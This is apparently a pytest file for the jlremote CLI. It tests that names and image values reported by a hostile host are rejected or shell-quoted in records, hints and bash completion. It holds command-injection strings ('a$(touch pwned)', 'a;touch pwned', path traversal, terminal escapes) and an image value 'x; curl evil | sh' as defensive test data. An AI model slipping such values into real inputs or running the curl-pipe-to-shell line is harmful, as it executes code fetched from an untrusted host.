"""Names that a hostile host gives reach no record, no hint and no line of the laptop's shell."""

from __future__ import annotations

import json
import os
import shutil
import sys
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from click.shell_completion import CompletionItem

from jlremote.cli.completion import shell_answers as shells
from jlremote.doctor import host_checks
from jlremote.errors import JlrError
from jlremote.hosts.halted import again
from jlremote.jobs import engine_jobs
from jlremote.jupyter import presence, survey
from jlremote.laptop import job_records, known_names, sessions
from jlremote.laptop.job_records import JobRecord
from jlremote.laptop.sessions import MountRecord, SessionRecord
from jlremote.place.host import kept_jobs
from jlremote.place.host.contract import FIELD, RECORD, Completed
from jlremote.place.runtimes.container_options import ContainerOptions
from jlremote.place.runtimes.engine.kinds import DOCKER
from jlremote.place.runtimes.runtime import Container
from jlremote.place.runtimes.table import runtime_named
from jlremote.sessions import restart
from tests.cli.terminal import Terminal
from tests.lab.programs import load
from tests.place.host.shells import run_sh
from tests.stories.parts import FakeHost

HOSTILE = (
    *("a$(touch pwned)", "a`touch pwned`", "a;touch pwned", "a|sh", "a b", "a\nb", "--rm", ""),
    *("../../.bashrc", "a\x1b]52;c;x\x07", "a\u202eb", "a/b", "."),
)


@pytest.fixture(autouse=True)
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of the records."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    return tmp_path / "jlr"


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_is_none_is_neither_a_job_nor_a_session(name: str) -> None:
    told, fine = listed(name), listed("cont1")
    assert [job.name for job in engine_jobs.read(json.dumps([told, fine]))] == ["cont1"]
    fields = (name, "true", "", "", "5", "0 9", "")
    assert kept_jobs.read(FIELD.join(fields) + RECORD) == []
    done = Completed(0, json.dumps([told, fine]) + RECORD, "")
    host: Any = FakeHost("dgx", {"containers": done, "none": "", "apptainer": ""})
    assert [session.name for session in presence.look(host, DOCKER).sessions] == ["cont1"]


def listed(name: str) -> dict[str, Any]:
    labels = {"org.jlremote.job": name, "org.jlremote.session": name}
    told = {"Id": "1d", "Name": f"/{name}", "State": {"Status": "running"}}
    return told | {"Config": {"Labels": labels}, "HostConfig": {}, "NetworkSettings": {}}


def test_a_short_name_leads_to_no_name_that_is_none() -> None:
    """`docker ps` of the host printed them; one that begins with `-` would be an option."""
    gone = "Error: No such container: cont1"
    there: Any = FakeHost("dgx", {"called": "--rm a;b ada-cont1 `x`"})
    there.answers |= {"container": Completed(1, "", gone), "inside": Completed(1, "", "")}
    found = survey.survey(there, runtime_named("docker"), "cont1", typed="cont1")
    assert found.called == ("ada-cont1",)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_record_with_such_a_name_is_no_record(name: str) -> None:
    sessions.save(SessionRecord("dgx", name, "docker", 8888))
    job_records.save(JobRecord("dgx", name, "docker", None))
    assert (sessions.load_all(), job_records.load_all()) == ([], [])
    assert (known_names.session_names(), known_names.session_names("jobs")) == ([], [])
    sessions.save(SessionRecord(f"x;{name}", "cont1", "docker", 8888))
    assert (sessions.load_all(), known_names.session_names()) == ([], [])


def test_a_hint_quotes_the_image_that_a_host_told() -> None:
    record = SessionRecord("dgx", "cont1", "docker", 8888, image="x; curl evil | sh")
    assert "--image 'x; curl evil | sh'`" in again(record, "container-gone")


def test_the_hints_of_restart_and_doctor_quote_what_a_host_told() -> None:
    evil = "x; curl evil | sh"
    options = ContainerOptions(remove=True)
    there = Container("1d", "cont1", running=True, started_at="", image=evil, options=options)
    record = SessionRecord("dgx", "cont1", "docker", 8888)
    found: Any = SimpleNamespace(container=there)
    unasked: Any = None
    with pytest.raises(JlrError) as refused:
        restart._refuse_unless_it_stays(record, runtime_named("docker"), found, unasked)
    assert f"--image '{evil}'`" in str(refused.value.hint)
    image = {"image": evil, "image_found": False, "image_complaint": None, "image_needed": True}
    facts: Any = SimpleNamespace(host="dgx", machine=evil, engine=None, **image)
    assert host_checks._image(facts).mend == (f"`jlr image pull dgx '{evil}'`",)


@pytest.mark.parametrize("name", [*HOSTILE, "it's", "a\\b", "a*", "~", "!!", "{a,b}"])
def test_bash_gets_every_candidate_as_one_word(name: str, tmp_path: Path) -> None:
    completer = shells.Bash(None, {}, "jlr", "_JLR_COMPLETE")  # type: ignore[arg-type]
    completer._incomplete = ""
    kind, _, word = completer.format_completion(CompletionItem(name)).partition(",")
    assert kind == "plain"
    if name.isprintable() and not name.startswith("~"):
        told = run_sh("bash", f"cd {tmp_path}; printf '%s|' {word}\n" if word else "printf '|'")
        assert told.stdout == f"{name}|"
    assert not (tmp_path / "pwned").exists()


def test_a_candidate_that_a_terminal_would_act_on_is_left_out(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(known_names, "is_name", lambda _: True)
    for name in HOSTILE:
        sessions.save(SessionRecord("dgx", name, "docker", 8888))
    monkeypatch.setenv("COMP_LINE", "jlr open a")
    from jlremote.cli.program import jlr

    completer = shells.Bash(jlr, {}, "jlr", "_JLR_COMPLETE")
    found = completer.get_completions(*completer.get_completion_args())
    assert found
    assert all(item.value.isprintable() for item in found)


def test_a_tab_in_bash_runs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The whole way: a mount's folder is a name that no rule forbids."""
    if not shutil.which("bash"):
        pytest.skip("no bash here")
    folder = tmp_path / "a$(touch pwned)"
    sessions.MOUNTS.save(MountRecord(str(folder), "/x", "dgx", "c", None, read_only=False, made=0))
    environment = os.environ | {"PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
    script = shells.script("bash").replace('"$1"', f"{sys.executable} -m jlremote")
    (tmp_path / "complete").write_text(script)
    terminal = Terminal(("bash", "--noprofile", "--norc", "-i"), environment=environment)
    try:
        terminal.type(f"PS1='ready> '; source {tmp_path}/complete; cd {tmp_path}\n")
        terminal.wait_for("ready> ")
        terminal.type("echo set''tled\n")
        terminal.wait_for("settled")
        terminal.type(f"jlr mount --unmount {tmp_path}/a\t\x01echo 'mark'\"ed\" \n")
        terminal.wait_for(f"marked jlr mount --unmount {folder}")
    finally:
        terminal.close()
    assert not (tmp_path / "pwned").exists()


def test_a_pipe_or_a_device_among_the_records_holds_up_nothing(state: Path) -> None:
    sessions.save(SessionRecord("dgx", "cont1", "docker", 8888))
    folder = state / "sessions"
    os.mkfifo(folder / "dgx+pipe.json")
    (folder / "dgx+zero.json").symlink_to("/dev/zero")
    (folder / "dgx+large.json").write_bytes(b" " * (2 << 20))
    (folder / "dgx+nul.json").write_text(
        (folder / "dgx+cont1.json").read_text().replace("null", '"a\\u0000b"', 1)
    )
    began = time.monotonic()
    assert [record.name for record in sessions.load_all()] == ["cont1"]
    assert len(sessions.unreadable()) == 4
    assert time.monotonic() - began < 5 * load()
